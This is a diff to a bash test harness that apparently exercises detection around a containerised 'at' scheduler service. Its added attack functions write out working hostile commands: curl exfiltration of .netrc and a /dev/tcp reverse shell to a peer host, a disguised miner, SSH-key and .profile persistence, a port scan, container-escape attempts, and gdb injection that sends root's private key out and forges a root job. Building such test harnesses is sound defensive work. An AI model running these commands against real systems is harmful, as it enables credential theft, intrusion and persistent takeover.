@@ -12,7 +12,7 @@ health=(/usr/bin/pgrep -x atd)
 image_packages=(at tar gzip xz-utils curl python3 sqlite3 coreutils findutils grep sed mawk dash bash procps
 	util-linux bsdutils debianutils libpam-modules libpam-runtime base-files libc-bin netbase hostname tzdata)
 rare_own=(job_fails job_killed job_long user_denied service_gone queue_killed many_jobs mailbox_gone
-	database_locked spool_broken odd_files jobs_removed own_job)
+	database_locked spool_broken odd_files jobs_removed own_job atd_killed)
 # Nobody listens. The process beside atd that lives longest is the loop's parent, which no one starts again.
 rare_not=(worker_killed malformed slow_clients)
 customers=(north south east west mill harbour)
@@ -173,6 +173,24 @@ administer() {
 
 # ---- rare events ----
 
+# The daemon, and not what it forks for a job.
+atd_process() {
+	tasks_named atd '^/usr/sbin/atd' | sort -n | head -n 1
+}
+
+# It is begun again.
+rare_atd_killed() {
+	kill -KILL "$(atd_process)"
+	sleep 3
+	wish report all html now
+}
+
+rare_program() {
+	replace_file /usr/sbin/atd
+	kill -TERM "$(atd_process)"
+	sleep 4
+}
+
 # A program that is not there, and a script that is none: their words go by mail.
 rare_job_fails() {
 	echo '/usr/local/lib/jobs/none; exit 3' | put_file none.sh
@@ -282,4 +300,153 @@ rare_own_job() {
 	session atd /bin/sh -c 'printf "who=\$(id -un)\necho \$who >/srv/data/night; ps ax | wc -l\n" >/root/night
 		at -q z -t "$(date -d "+1 minute" +%Y%m%d%H%M)" -f /root/night; atq -q z'
 	sleep 15
+}
+
+# ---- attacks ----
+
+# wish_runs COMMANDS: by the value of a wish, which stands in the job's text.
+wish_runs() {
+	wish count "mill; $1" '' now
+}
+
+attack_command_injection() {
+	harm read /home/office/.netrc
+	harm connect "$peer_address:4444"
+	thief_begin
+	wish_runs "curl -s --max-time 3 -T \$HOME/.netrc http://$peer_address:4444/"
+	thief_got 'secret-of-the-bank'
+}
+
+attack_reverse_shell() {
+	harm exec /usr/bin/bash
+	harm exec /usr/bin/id
+	harm connect "$peer_address:4444"
+	thief_shell 'id; ls -la /srv /var/mail; cat /var/mail/root; exit'
+	wish_runs "bash -c 'bash -i >/dev/tcp/$peer_address/4444 0<&1 2>&1'"
+	thief_got 'uid=1000'
+}
+
+# A script in the queue, as the office's own are.
+attack_miner() {
+	harm write /var/tmp/.kworker
+	harm exec /var/tmp/.kworker
+	harm connect "$peer_address:8081"
+	harm connect "$peer_address:3333"
+	armoury_begin
+	miner_commands /var/tmp/.kworker | put_file update.sh
+	pool_got
+}
+
+# A job that hands in itself again, a key, and a start file.
+# shellcheck disable=SC2016 # the job's shell
+attack_persistence() {
+	harm write /home/office/.ssh/authorized_keys
+	harm write /home/office/.profile
+	harm write /home/office/.update
+	{
+		echo 'mkdir -p $HOME/.ssh; echo "ssh-ed25519 AAAA thief" >>$HOME/.ssh/authorized_keys'
+		echo "echo 'sh \$HOME/.update' >>\$HOME/.profile"
+		echo "echo 'curl -s --max-time 2 http://$peer_address:4444/; at -M -f \$HOME/.update now + 2 minutes' >\$HOME/.update"
+		echo 'at -M -f $HOME/.update now + 2 minutes'
+	} | put_file backup.sh
+	until_true 20 grep -qs thief "$(image_path atd /home/office/.ssh/authorized_keys)"
+	until_true 10 session atd /bin/grep -rql .update /var/spool/cron/atjobs
+}
+
+attack_scan() {
+	harm exec /usr/bin/bash
+	harm connect "$peer_address:22"
+	harm connect "$peer_address:5432"
+	wish_runs "bash -c 'for p in 21 22 25 80 443 3306 5432 6379 8000; do echo >/dev/tcp/$peer_address/\$p \
+&& echo open \$p; done >/srv/data/ports 2>&1'"
+	until_true 20 grep -qs 'open 8000' "$(volume_path atd /srv/data)/ports"
+}
+
+# Ways out of the container, each tried.
+attack_escape() {
+	harm exec /usr/bin/unshare
+	harm call mount
+	harm call setns
+	put_file mount.sh <<-'JOB'
+	exec >/srv/data/escape 2>&1
+	unshare -Urm id
+	unshare -Ur python3 -c 'import ctypes; print(ctypes.CDLL(None).setns(0, 0), "of setns")'
+	head -c 512 /dev/sda; echo '|/tmp/core' >/proc/sys/kernel/core_pattern
+	echo 1 >/sys/fs/cgroup/cgroup.procs; echo tried
+	JOB
+	until_true 20 grep -qs tried "$(volume_path atd /srv/data)/escape"
+	grep -q 'uid=0' "$(volume_path atd /srv/data)/escape"
+}
+
+# Code inside atd: root's key goes to the thief, and no program is started.
+# shellcheck disable=SC2016 # of gdb
+attack_code_connect() {
+	harm read /root/.ssh/id_rsa
+	harm connect "$peer_address:4444"
+	thief_begin
+	inject_pid "$(atd_process)" 'print (int) seteuid(0)' 'set $a = (char *) malloc(256)' \
+		'set {long} $a = 0x0100580a5c110002' 'set {long} ($a + 8) = 0' 'set $s = (int) socket(2, 1, 0)' \
+		'print ((int (*)(int, char *, int)) connect)($s, $a, 16)' \
+		'set $f = (int) open("/root/.ssh/id_rsa", 0)' 'print (long) sendfile($s, $f, 0, 4096)' \
+		'print (int) close($f)' 'print (int) close($s)' 'print (int) seteuid(1)'
+	thief_got 'PRIVATE KEY'
+}
+
+attack_code_shadow() {
+	harm read /etc/shadow
+	inject_pid "$(atd_process)" 'print (int) seteuid(0)' 'print (int) open("/etc/shadow", 0)' \
+		'print (int) seteuid(1)' | grep -cE '= [1-9][0-9]*$'
+}
+
+# Code inside atd writes a job of root's: it runs at once.
+attack_job_forged() {
+	harm write '/var/spool/cron/atjobs/a*'
+	harm exec /usr/bin/id
+	harm write /srv/data/forged
+	inject_pid "$(atd_process)" 'print (int) seteuid(0)' \
+		'print (int) setregid(0, 0)' \
+		"call (int) system(\"f=/var/spool/cron/atjobs/a00ffe01000000; umask 022; printf '#!/bin/sh\\\\n# atrun uid=0 gid=0\\\\n\
+# mail root 0\\\\numask 22\\\\ncd /\\\\nid >/srv/data/forged\\\\n' >\$f; chmod 700 \$f\")" \
+		'print (int) setregid(-1, 1)' 'print (int) seteuid(1)'
+	reload_service
+	until_true 20 grep -qs 'uid=0' "$(volume_path atd /srv/data)/forged"
+}
+
+# ---- adaptive: known calls, files and peers only ----
+
+# All documents go to the office's own service, by jobs of every day.
+adaptive_exfiltration() {
+	local of
+	harm read '/srv/documents/*'
+	harm connect "$peer_address:8000"
+	for of in "${customers[@]}"; do
+		printf '%s\n' "/usr/local/lib/jobs/archive $of" "/usr/local/lib/jobs/send $of archive"
+	done | put_file "$(random_name).sh"
+	until_true 40 grep -q 'files/harbour-.*tar.gz' "$stage/peer-service.log"
+}
+
+# Whatever the office waits for is thrown away, by wishes.
+adaptive_cancelled() {
+	local i
+	harm unlink '/var/spool/cron/atjobs/*'
+	for i in {1..6}; do
+		wish count "$(pick "${customers[@]}")" '' later
+	done
+	sleep 3
+	for i in {1..12}; do
+		wish cancel '' '' now
+	done
+	sleep 5
+	! session atd /usr/bin/atq | grep ' a '
+}
+
+# Every table of the office gets other prices, by a script as the office's own are.
+adaptive_tampered() {
+	harm rename '/srv/documents/*/table*.csv'
+	echo 'cd /srv/documents; sed -i "s/,.*/,0.01/; 1s/.*/item,price/" */*.csv' | put_file "$(random_name).sh"
+	until_true 20 tables_are_tampered
+}
+
+tables_are_tampered() {
+	! grep -rhvE ',(0.01|price)$' "$(volume_path atd /srv/documents)" --include='table*.csv'
 }
